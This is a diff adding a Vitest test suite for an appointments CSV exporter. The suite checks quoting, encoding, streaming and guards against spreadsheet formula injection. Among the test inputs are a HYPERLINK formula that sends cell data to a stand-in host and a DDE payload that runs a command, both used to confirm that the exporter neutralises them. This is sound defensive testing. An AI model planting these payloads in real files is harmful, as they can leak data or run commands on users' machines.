@@ -1,0 +1,212 @@
+// @vitest-environment node
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { appointmentsCsv, appointmentsCsvParts, csvFileName } from '#src/domain/csv.ts';
+import type { Appointment } from '#src/domain/types.ts';
+import { parseCsv } from '#tests/support/parseCsv.ts';
+
+const plain: Appointment = {
+  id: '7',
+  name: 'Asha Rao',
+  mobile_number: '9876543210',
+  email: 'asha@example.com',
+  appointment_type: 'Surgery',
+  pet_type: 'Cat',
+  location_name: 'Indiranagar',
+  store_manager_number: '08012345678',
+  appointment_date: '2026-03-07',
+  appointment_time: '10:30',
+  comments: 'Limping.',
+};
+
+const header = [
+  'ID',
+  'Name',
+  'Mobile',
+  'Email',
+  'Appointment Type',
+  'Pet Type',
+  'Location',
+  'Manager Phone',
+  'Date',
+  'Time',
+  'Comments',
+];
+
+function withoutMark(csv: string): string {
+  expect(csv.startsWith('\uFEFF')).toBe(true);
+  return csv.slice(1);
+}
+
+function cellsOf(list: readonly Appointment[]): string[][] {
+  return parseCsv(withoutMark(appointmentsCsv(list))).slice(1);
+}
+
+function commentCell(comments: string): string | undefined {
+  return cellsOf([{ ...plain, comments }])[0]?.at(-1);
+}
+
+/** Said again, in other words than the code: the first character that shows. */
+function wouldRun(cell: string): boolean {
+  const first = cell.replace(/^[\p{Zs}]+/u, '').charAt(0);
+  return first !== '' && '=+-@\t\r\n＝＋－＠'.includes(first);
+}
+
+test('is called appointments.csv', () => {
+  expect(csvFileName).toBe('appointments.csv');
+});
+
+test('is UTF-8 with a mark, CRLF, every field in quotes, the columns in order', () => {
+  expect(appointmentsCsv([plain])).toBe(
+    '\uFEFF' +
+      '"ID","Name","Mobile","Email","Appointment Type","Pet Type","Location","Manager Phone","Date","Time","Comments"\r\n' +
+      '"7","Asha Rao","9876543210","asha@example.com","Surgery","Cat","Indiranagar","08012345678","2026-03-07","10:30","Limping."\r\n',
+  );
+});
+
+test('of an empty list is the header alone', () => {
+  expect(parseCsv(withoutMark(appointmentsCsv([])))).toEqual([header]);
+});
+
+test('gives a date-time by its date part', () => {
+  const [row] = cellsOf([{ ...plain, appointment_date: '2026-03-07T23:59:59Z' }]);
+  expect(row?.[8]).toBe('2026-03-07');
+});
+
+describe('a cell', () => {
+  test.each([
+    'She said "sit"',
+    'a,b;c\td',
+    'first\nsecond\r\nthird',
+    'பூனை மற்றும் नाय कुत्ता ಬೆಕ್ಕು',
+    '👩🏽‍⚕️🐕',
+    "'quoted'",
+    '1=1',
+    'a+b@c',
+    '9876543210',
+    '0012',
+    '1E5',
+    '   two spaces before and after  ',
+    '',
+  ])('holds %j as typed', (comments) => expect(commentCell(comments)).toBe(comments));
+
+  test.each([
+    '=1+1',
+    '=1+1\nnote',
+    '+919876543210',
+    '-2+3',
+    '@SUM(A1)',
+    '  =1+1',
+    '\u00a0=1+1',
+    '\u3000=1+1',
+    '\t=1+1',
+    '\tnote',
+    '\rnote',
+    '\nnote',
+    ' \nnote',
+    '\r\n=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    '\u200b=1+1',
+    '\ufeff=1+1',
+    '\u0000=1+1',
+    '\u000b=1+1',
+    '=HYPERLINK("https://evil.example?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+  ])('%j is put as text', (comments) => expect(commentCell(comments)).toBe(`'${comments}`));
+
+  test('of every column is guarded', () => {
+    const hostile = Object.fromEntries(
+      Object.keys(plain).map((key) => [key, '=1+1']),
+    ) as unknown as Appointment;
+    const [row] = cellsOf([{ ...hostile, appointment_date: '2026-03-07' }]);
+    expect(row).toEqual(header.map((title) => (title === 'Date' ? '2026-03-07' : "'=1+1")));
+  });
+});
+
+const text = fc.oneof(
+  fc.string({ unit: 'grapheme' }),
+  fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n ＝＋－＠",;\'\u00a0\u200b\u0000a1'.split('')) }),
+);
+const appointment: fc.Arbitrary<Appointment> = fc.record({
+  id: text,
+  name: text,
+  mobile_number: text,
+  email: text,
+  appointment_type: text,
+  pet_type: text,
+  location_name: text,
+  store_manager_number: text,
+  appointment_date: fc.constantFrom('', '2026-03-07', '2028-02-29'),
+  appointment_time: text,
+  comments: text,
+});
+
+test('gives back whatever was typed, to any reader of RFC 4180, and never a formula', () => {
+  fc.assert(
+    fc.property(fc.array(appointment), (list) => {
+      const rows = cellsOf(list);
+      expect(rows).toHaveLength(list.length);
+      for (const [index, row] of rows.entries()) {
+        const typed = list[index] as Appointment;
+        expect(row).toHaveLength(11);
+        for (const [column, key] of (Object.keys(plain) as (keyof Appointment)[]).entries()) {
+          const cell = row[column] as string;
+          expect(wouldRun(cell)).toBe(false);
+          // Nothing added but the guard, and the guard only where the text starts with something odd.
+          expect(cell === typed[key] || cell === `'${typed[key]}`).toBe(true);
+          if (/^[\p{L}\p{N}]/u.test(typed[key])) expect(cell).toBe(typed[key]);
+          if (wouldRun(typed[key])) expect(cell).toBe(`'${typed[key]}`);
+        }
+      }
+    }),
+    { numRuns: 1000 },
+  );
+});
+
+describe('in parts', () => {
+  async function partsOf(list: readonly Appointment[]) {
+    const parts: string[] = [];
+    let longest = 0;
+    let start = performance.now();
+    for await (const part of appointmentsCsvParts(list)) {
+      longest = Math.max(longest, performance.now() - start);
+      parts.push(part);
+      start = performance.now();
+    }
+    return { parts, longest };
+  }
+
+  test('is the same file', async () => {
+    for (const length of [0, 1, 999, 1000, 1001, 2500]) {
+      const list = Array.from({ length }, (_, id) => ({ ...plain, id: String(id) }));
+      expect((await partsOf(list)).parts.join('')).toBe(appointmentsCsv(list));
+    }
+  });
+
+  test('lets the page answer between the parts of 100,000 requests', async () => {
+    const list = Array.from({ length: 100_000 }, (_, id) => ({ ...plain, id: String(id) }));
+    let turns = 0;
+    const ticking = setInterval(() => (turns += 1), 0);
+    const { parts, longest } = await partsOf(list);
+    clearInterval(ticking);
+    expect(parts.length).toBe(101);
+    expect(turns).toBeGreaterThan(50);
+    // The whole at once takes several hundred; a part has no business near a tenth of a second.
+    expect(longest).toBeLessThan(100);
+  });
+});
+
+test('the reader of these tests is strict', () => {
+  expect(parseCsv('"a","b""c"\r\n"d",e\r\n')).toEqual([
+    ['a', 'b"c'],
+    ['d', 'e'],
+  ]);
+  expect(parseCsv('"a\r\nb",""\r\n')).toEqual([['a\r\nb', '']]);
+  expect(() => parseCsv('"a')).toThrow();
+  expect(() => parseCsv('"a"b')).toThrow();
+  expect(() => parseCsv('a"b')).toThrow();
+  expect(() => parseCsv('a\nb')).toThrow();
+});
